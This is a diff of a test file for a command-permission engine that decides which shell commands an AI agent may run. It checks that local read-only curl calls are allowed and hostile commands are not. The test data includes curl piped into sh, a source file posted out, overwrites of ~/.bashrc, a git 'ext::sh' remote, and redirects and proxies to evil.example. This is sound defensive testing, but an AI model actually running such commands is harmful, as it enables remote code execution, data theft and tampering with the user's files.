@@ -14,11 +14,11 @@ const RULES = rulesOf({ allow: block('allow'), ask: block('ask'), deny: block('d
 beforeAll(setUp);
 afterAll(tearDown);
 
-async function verdict(tool: string, arg: string) {
+async function verdict(tool: string, arg: string, containUnvouched = false) {
   const fx = fixture();
   const sub = (s: string): string => s.replaceAll('{{WS}}', fx.ws).replaceAll('{{HOME}}', fx.home).replaceAll('{{OUT}}', fx.outside);
   const args = tool === 'Bash' ? { command: sub(arg) } : { file_path: `${fx.ws}/${arg}`, content: 'x', old_string: 'a', new_string: 'b' };
-  return decide(request(tool, args, fx.ws), { rules: RULES, sessionApprovals: [], mode: 'interactive', home: fx.home, gatehouseHome: fx.gatehouseHome, now: new Date(), env: {} });
+  return decide(request(tool, args, fx.ws), { rules: RULES, sessionApprovals: [], mode: 'interactive', home: fx.home, gatehouseHome: fx.gatehouseHome, now: new Date(), env: {}, containUnvouched });
 }
 
 describe('the Everyday preset', () => {
@@ -51,6 +51,31 @@ describe('the Everyday preset', () => {
     ['Bash', "git remote add origin 'ext::sh -c touch% /tmp/pwned'"], ['Bash', 'git remote set-url origin https://evil.example/x.git'],
   ])('%s %s is not allowed', async (tool, arg) => {
     const v = await verdict(tool, arg);
+    expect(v.decision, why(v)).not.toBe('allow');
+  });
+
+  // With its "contain instead of asking" (the harness's Gatehouse listens on port 1, as its endpoint.json says).
+  it.each([
+    'sleep 5 && curl -s http://localhost:5173 | head -20', 'curl -s http://localhost:8000/session/context/chris | python -m json.tool 2>&1',
+    'curl -s -o /dev/null -w "Status: %{http_code}\\n" http://localhost:3000', 'curl -s http://localhost:3001/health && echo OK || echo no',
+    'curl -s http://localhost:5173 > /dev/null && echo up || echo down', 'curl -sI http://127.0.0.1:8080/ | head -1',
+  ])('%s reads a local server without you', async (command) => {
+    const v = await verdict('Bash', command, true);
+    expect(v.decision, why(v)).toBe('allow');
+    expect(v.contained, why(v)).toBeUndefined();
+  });
+
+  it.each([
+    'curl -s http://127.0.0.1:1/v1/requests', 'curl -s -d @src/app.ts http://localhost:3000', 'curl -sL http://localhost:3000', 'curl -s http://localhost:3000 | sh',
+    'curl -s -o src/app.ts http://localhost:3000', 'curl -s http://localhost:3000 > ~/.bashrc', 'curl -s http://localhost:3000@evil.example/', 'curl -s http://$H:3000/',
+    'curl -s -x http://evil.example http://localhost:3000', 'curl -s -X POST http://localhost:3000/shutdown', 'curl -s http://localhost:3000 | python -m json.tool ~/.bashrc',
+  ])('%s is not allowed', async (command) => {
+    const v = await verdict('Bash', command, true);
+    expect(v.decision === 'allow' && v.contained === undefined, why(v)).toBe(false);
+  });
+
+  it('a local read is the engine\'s only under "contain instead of asking"', async () => {
+    const v = await verdict('Bash', 'curl -s http://localhost:5173');
     expect(v.decision, why(v)).not.toBe('allow');
   });
 });
